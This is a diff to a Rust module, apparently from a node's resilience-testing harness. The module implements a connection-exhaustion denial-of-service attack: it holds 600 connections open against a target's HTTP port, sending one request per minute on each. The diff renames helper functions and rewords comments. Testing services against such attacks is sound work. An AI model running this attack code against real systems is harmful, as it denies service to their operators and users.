@@ -1,4 +1,4 @@
-//! One source keeps connections of the HTTP port busy with a request a minute each.
+//! Attack: one source keeps connections of the HTTP port open with a request per minute on each.
 
 use std::sync::Arc;
 use std::time::Duration;
@@ -8,38 +8,38 @@ use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 use tokio::time::timeout;
 
-use super::peer::{SOURCE, dial, forever, together};
+use super::peer::{SOURCE, dial, repeat, spawn_all};
 use super::victim::Target;
 
-/// More connections than a node that may open 1024 files takes on.
+/// More connections than the limit of a node with 1024 open files.
 const CONNECTIONS: usize = 600;
-/// Between two requests of a connection.
+/// The interval of requests on a connection.
 const PAUSE: Duration = Duration::from_secs(60);
 
-/// Attacks until it is dropped; counts requests that were sent.
+/// Attacks until dropped; counts sent requests.
 pub async fn attack(target: Arc<Target>) -> anyhow::Result<()> {
     let one = |_| {
         let target = target.clone();
-        async move { forever(async || hold(&target).await).await }
+        async move { repeat(async || hold(&target).await).await }
     };
-    together(CONNECTIONS, one).await;
+    spawn_all(CONNECTIONS, one).await;
     Ok(())
 }
 
-/// Holds one connection until the node ends it.
+/// Keeps one connection open until the node closes it.
 async fn hold(target: &Target) -> anyhow::Result<()> {
     let mut stream = dial(SOURCE, target.http).await?;
     loop {
         stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: node\r\n\r\n").await?;
         target.count();
-        if timeout(PAUSE, ended(&mut stream)).await.is_ok() {
-            bail!("the node has ended the connection");
+        if timeout(PAUSE, read_until_closed(&mut stream)).await.is_ok() {
+            bail!("the node has closed the connection");
         }
     }
 }
 
-/// Reads answers until the connection ends.
-async fn ended(stream: &mut TcpStream) {
+/// Reads answers until the connection is closed.
+async fn read_until_closed(stream: &mut TcpStream) {
     let mut answer = [0; 1024];
     while let Ok(1..) = stream.read(&mut answer).await {}
 }
